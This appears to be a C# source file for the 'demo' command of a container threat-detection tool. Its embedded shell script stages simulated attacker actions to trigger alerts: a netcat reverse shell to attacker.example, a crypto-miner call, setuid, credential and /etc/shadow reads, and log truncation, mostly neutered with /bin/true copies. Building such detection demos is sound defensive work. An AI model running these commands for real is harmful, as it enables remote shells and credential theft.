// SPDX-License-Identifier: Apache-2.0

namespace FarQuery.Cli.Commands;

/// <summary><c>farquery demo</c>: <c>farquery run</c> with the embedded packs around a short script that does what
/// attackers do in a container (all inside a temporary directory, undone at the end), so the detections print to stdout
/// on any machine with a shell.</summary>
internal static class DemoCommand
{
    /// <summary>The demo workload: each line trips one bundled detection, and cleans up after itself. The three reads at the
    /// end are caught without stopping the app on its read-only opens (docs/tracer.md §5): they show the default
    /// coverage of sensitive reads.</summary>
    internal const string Script = """
        set +e
        d=$(mktemp -d /tmp/farquery-demo.XXXXXX)
        cd "$d"
        echo "== farquery demo: suspicious actions in $d" >&2
        cp /bin/true /dev/shm/farquery-demo-payload && /dev/shm/farquery-demo-payload; rm -f /dev/shm/farquery-demo-payload
        touch tool && chmod u+s tool
        cp /bin/true ./xmrig && ./xmrig -o stratum+tcp://pool.example:3333
        cp /bin/true ./nc && ./nc -e /bin/sh attacker.example 4444
        find "$d" -maxdepth 1 -name id_rsa
        grep -r "aws_secret_access_key" "$d" 2>/dev/null
        ln -s /etc/shadow shadow_link
        : > syslog && truncate -s0 syslog
        cat /etc/shadow > /dev/null 2>&1
        echo /tmp/../etc/../etc/shadow | xargs cat > /dev/null 2>&1
        cat /proc/self/environ > /dev/null
        echo "== done" >&2
        cd / && rm -rf "$d"
        """;

    /// <summary>Builds the verb.</summary>
    public static Command Create()
    {
        var command = new Command("demo", "Run the bundled detections around a demo workload and print the alerts (JSON lines)");
        command.SetAction(_ => AppSupervisor.Run(["/bin/sh", "-c", Script], new AgentOptions { NoAdminSocket = true }));
        return command;
    }
}
